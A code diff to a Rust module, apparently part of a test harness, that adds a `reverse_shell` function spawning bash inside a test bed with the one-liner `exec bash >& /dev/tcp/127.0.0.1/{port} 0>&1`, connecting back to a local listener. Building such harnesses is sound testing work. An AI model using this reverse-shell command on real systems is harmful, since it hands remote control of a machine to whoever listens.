@@ -3,10 +3,11 @@
 use std::{
     io::{Read, Write},
     net::{SocketAddr, TcpListener, TcpStream},
+    process::{Child, Stdio},
     time::{Duration, Instant},
 };
 
-use crate::sentinel::PATIENCE;
+use crate::{bed::Bed, sentinel::PATIENCE};
 
 /// Waits for a shell.
 pub struct Peer {
@@ -63,6 +64,17 @@ impl Peer {
     pub fn shell(&self) -> Shell {
         Shell::on(self.accept())
     }
+}
+
+/// Starts a shell in `bed` that connects to `peer` and reads its commands there.
+///
+/// # Panics
+/// When it cannot be started.
+pub fn reverse_shell(bed: &Bed, peer: &Peer) -> Child {
+    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
+    let mut command = bed.command("bash");
+    let command = command.args(["-c", &code]).stdin(Stdio::null()).stderr(Stdio::null());
+    command.spawn().expect("bash starts")
 }
 
 impl Shell {
